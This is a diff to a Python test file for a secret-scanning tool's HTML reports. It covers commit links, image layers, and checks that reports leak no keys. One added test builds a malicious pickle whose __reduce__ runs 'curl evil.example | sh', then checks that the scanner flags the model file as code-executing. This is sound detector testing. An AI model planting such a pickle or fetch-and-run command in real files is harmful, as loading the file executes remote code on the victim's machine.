@@ -6,6 +6,7 @@ a person to look at."""
 
 from __future__ import annotations
 
+import re
 import subprocess
 from pathlib import Path
 from typing import Any
@@ -18,7 +19,8 @@ from keyscope.scan import ScanOptions, scan
 from tests.browser import drive
 from tests.sdk import NOW
 from tests.test_git_history import Story, story  # noqa: F401 (the incident-shaped repository)
-from tests.test_html_report import leaky_tree
+from tests.test_html_report import leaky_tree, strict_parse
+from tests.test_unpack_images import Images, images  # noqa: F401 (a real image, by umoci)
 
 ROOT = Path(__file__).resolve().parent.parent
 SHOTS = ROOT / "build" / "test-output" / "html-report"
@@ -79,6 +81,7 @@ def test_the_incident_page_shows_its_timeline_and_card_with_no_request(
     # each location links to its commit on the repository's web site
     leak = story.repo.commits["leak"]
     assert f"https://github.com/robust/models/blob/{leak}/README.md#L5" in load["links"]
+    strict_parse(incident_page.read_text())
     assert (shots / "incident.png").stat().st_size > 10_000
     assert (shots / "incident.pdf").read_bytes().startswith(b"%PDF")  # it prints
 
@@ -131,15 +134,49 @@ def test_the_dark_scheme_follows_the_system(incident_page: Path, shots: Path) ->
     assert dark == "rgb(13, 17, 23)"
 
 
+def test_an_image_shows_its_layers_and_a_model_file_what_would_run(
+    images: Images, tmp_path: Path, shots: Path  # noqa: F811
+) -> None:
+    page = tmp_path / "image.html"
+    main(["scan", "-j", "1", "--now", "2026-11-26T00:00:00Z", "--format", "html", "-o", str(page),
+          str(images.docker)])
+    run = drive({"url": page.as_uri(), "steps": [
+        {"fill": "#f-search", "value": "layeracct", "screenshot": str(shots / "image.png")}]})
+    only_the_page(run, page)
+    [layers] = run["steps"][0]["layers"]
+    assert layers == ("layers of storage account 'layeracct': added in layer 1, deleted in "
+                      "layer 2; still in the image")
+
+    import os
+    import pickle
+
+    class Evil:
+        def __reduce__(self) -> tuple[object, tuple[str]]:
+            return (os.system, ("curl evil.example | sh",))
+
+    (tmp_path / "models").mkdir()
+    (tmp_path / "models" / "model.pkl").write_bytes(pickle.dumps(Evil()))
+    page = tmp_path / "models.html"
+    main(["models", "--format", "html", "-o", str(page), str(tmp_path / "models")])
+    run = drive({"url": page.as_uri(), "screenshot": str(shots / "models.png")})
+    only_the_page(run, page)
+    text = run["load"]["text"]
+    assert "Model files" in text and "executes-code" in text and "system" in text
+
+
 @pytest.fixture(scope="module")
 def big_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """10,001 credentials (10,000 account keys and a SAS) scanned, reported as HTML."""
     tree = tmp_path_factory.mktemp("big")
-    leaky_tree(tree / "tree", 10_000)
+    secrets = leaky_tree(tree / "tree", 10_000)
     result = scan([str(tree / "tree")], ScanOptions(jobs=1, now=NOW))
     assert len(result.findings) == 10_001
     page = tree / "big.html"
-    page.write_text(render_scan(result))
+    text = render_scan(result)
+    # no secret in 19 MB of page: every key-shaped string in it is none of the keys
+    assert not set(re.findall(r"[A-Za-z0-9+/]{86}==", text)) & set(secrets[:-1])
+    assert secrets[-1] not in text
+    page.write_text(text)
     return page
 
 
